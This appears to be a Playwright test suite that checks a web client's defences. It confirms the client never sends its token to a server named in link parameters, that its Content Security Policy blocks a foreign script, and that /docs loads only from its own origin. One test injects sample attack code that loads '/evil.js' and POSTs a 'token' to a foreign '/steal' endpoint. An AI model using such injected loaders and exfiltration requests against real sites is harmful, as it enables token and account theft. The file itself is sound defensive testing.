import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ForeignOrigin, startForeignOrigin } from './foreign-origin.js';
import { startWebHarness, type WebHarness } from './web-harness.js';

/**
 * What the web client must refuse to do in a real browser, whatever a link or an injected script asks:
 * send the user's token anywhere but the API it was served with, or run or reach code from elsewhere.
 */
describe('web client defences in Chromium', { timeout: 120_000 }, () => {
  let h: WebHarness;
  let foreign: ForeignOrigin;

  beforeAll(async () => {
    h = await startWebHarness();
    foreign = await startForeignOrigin();
  }, 180_000);
  afterAll(async () => {
    await foreign?.close();
    await h?.close();
  });

  /** Opens `url` and waits until the client's own requests are over: its profile answered, the network quiet. */
  const openAndSettle = async (page: Page, url: string) => {
    const profile = page.waitForResponse((response) => response.url().endsWith('/api/me'));
    await page.goto(url);
    await profile;
    await page.waitForLoadState('networkidle');
  };

  it('sends the token only to its own API, whatever ?api= and ?ws= in the link say', async () => {
    // Prepare: a signed-in user follows a link that names another server as the API.
    const victim = await h.user('victim', 'Victim');
    const link = `${h.stack.apiUrl}/?api=${encodeURIComponent(foreign.origin)}&ws=${encodeURIComponent(
      foreign.origin.replace('http:', 'ws:'),
    )}#/`;
    // Act
    await openAndSettle(victim, link);
    // Assess: the other server heard nothing carrying the token, and the real API knew the user.
    expect(foreign.received.filter((r) => r.headers.authorization !== undefined)).toEqual([]);
    expect(foreign.received.map((r) => `${r.method} ${r.path}`)).toEqual([]);
    await victim.getByRole('link', { name: 'Victim' }).waitFor();
  });

  it('runs no script from another origin and sends nothing there, while the client itself works', async () => {
    // Prepare: the client, signed in, under the policy the stack serves it with.
    const page = await h.user('csp-reader', 'Reader');
    await openAndSettle(page, h.url('#/'));
    await page.getByRole('link', { name: 'Reader' }).waitFor();
    const before = foreign.received.length;
    // Act: what injected markup or code would try — a foreign <script src>, then a request out.
    const outcome = await page.evaluate(
      `new Promise((resolve) => {
        const violations = [];
        document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
        const script = document.createElement('script');
        script.src = ${JSON.stringify(`${foreign.origin}/evil.js`)};
        const finish = (loaded) =>
          fetch(${JSON.stringify(`${foreign.origin}/steal`)}, { method: 'POST', body: 'token' })
            .then(() => 'sent', () => 'refused')
            .then((fetched) => setTimeout(() => resolve({ loaded, fetched, violations, ran: window.__foreignScriptRan === true }), 0));
        script.onload = () => finish(true);
        script.onerror = () => finish(false);
        document.head.append(script);
      })`,
    );
    // Assess
    expect(outcome).toEqual({
      loaded: false,
      fetched: 'refused',
      violations: ['script-src-elem', 'connect-src'],
      ran: false,
    });
    expect(foreign.received.slice(before)).toEqual([]);
  });

  it('serves /docs from its own origin only, and renders the API’s operations', async () => {
    // Prepare: note every request the page makes.
    const page = await h.user(null);
    const origins = new Set<string>();
    page.on('request', (request) => {
      origins.add(new URL(request.url()).origin);
    });
    // Act
    await page.goto(`${h.stack.apiUrl}/docs`);
    await page.locator('.opblock', { hasText: '/api/posts' }).first().waitFor();
    await page.waitForLoadState('networkidle');
    // Assess: operations are listed, and nothing came from anywhere else.
    expect(
      await page.locator('.opblock-summary-path', { hasText: '/api/posts/{id}' }).count(),
    ).toBeGreaterThan(0);
    expect([...origins]).toEqual([h.stack.apiUrl]);
  });
});
